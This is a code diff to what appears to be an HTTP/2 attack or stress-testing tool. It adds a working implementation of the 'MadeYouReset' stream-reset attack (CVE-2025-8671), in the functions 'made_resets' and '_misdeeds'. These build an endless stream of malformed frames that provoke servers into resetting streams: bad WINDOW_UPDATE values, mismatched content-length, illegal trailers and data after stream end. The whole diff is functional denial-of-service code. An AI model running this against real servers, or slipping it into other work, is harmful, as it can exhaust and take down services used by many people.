@@ -7,6 +7,7 @@ from typing import Final
 
 from h2.errors import ErrorCodes
 from h2.settings import SettingCodes
+from hpack import Encoder
 
 from .http2 import (
     CONTINUATION,
@@ -18,6 +19,7 @@ from .http2 import (
     PING,
     RST_STREAM,
     WINDOW_UPDATE,
+    call,
     frame,
     head_block,
     hostile,
@@ -53,6 +55,34 @@ def _resets(path: str) -> Iterator[bytes]:
     for stream_id in _STREAM_IDS:
         yield frame(HEADERS, stream_id, head, END_HEADERS)
         yield frame(RST_STREAM, stream_id, code)
+
+
+async def made_resets(target: Target, course: Course) -> None:
+    """Has the server reset streams by breaking a rule on each, in every way there is (CVE-2025-8671)."""
+    await _pour(target, course, _misdeeds(target))
+
+
+def _misdeeds(target: Target) -> Iterator[bytes]:
+    head = head_block(target.path)
+    short, long = (head_block(target.path, **{"content-length": length}) for length in ("1", "100000"))
+    method = Encoder().encode([(":method", "POST", True)])  # a pseudo-header, which no trailer may be
+    streams = iter(_STREAM_IDS)
+    while True:
+        yield from _with_head(next(streams), head, WINDOW_UPDATE, bytes(4))
+        yield from _with_head(next(streams), head, WINDOW_UPDATE, HIGHEST_WINDOW.to_bytes(4, "big"))
+        yield from _with_head(next(streams), short, DATA, b"xx")
+        yield from _with_head(next(streams), long, DATA, b"x", END_STREAM)
+        yield from _with_head(next(streams), head, HEADERS, b"", END_HEADERS)
+        yield from _with_head(next(streams), head, HEADERS, method, END_HEADERS | END_STREAM)
+        yield frame(HEADERS, next(streams), head_block(target.path, te="gzip"), END_HEADERS)
+        answered = next(streams)
+        yield call(answered, target)
+        yield frame(DATA, answered, b"after the end")
+
+
+def _with_head(stream_id: int, head: bytes, kind: int, payload: bytes, flags: int = 0) -> Iterator[bytes]:
+    yield frame(HEADERS, stream_id, head, END_HEADERS)
+    yield frame(kind, stream_id, payload, flags)
 
 
 async def pings(target: Target, course: Course) -> None:
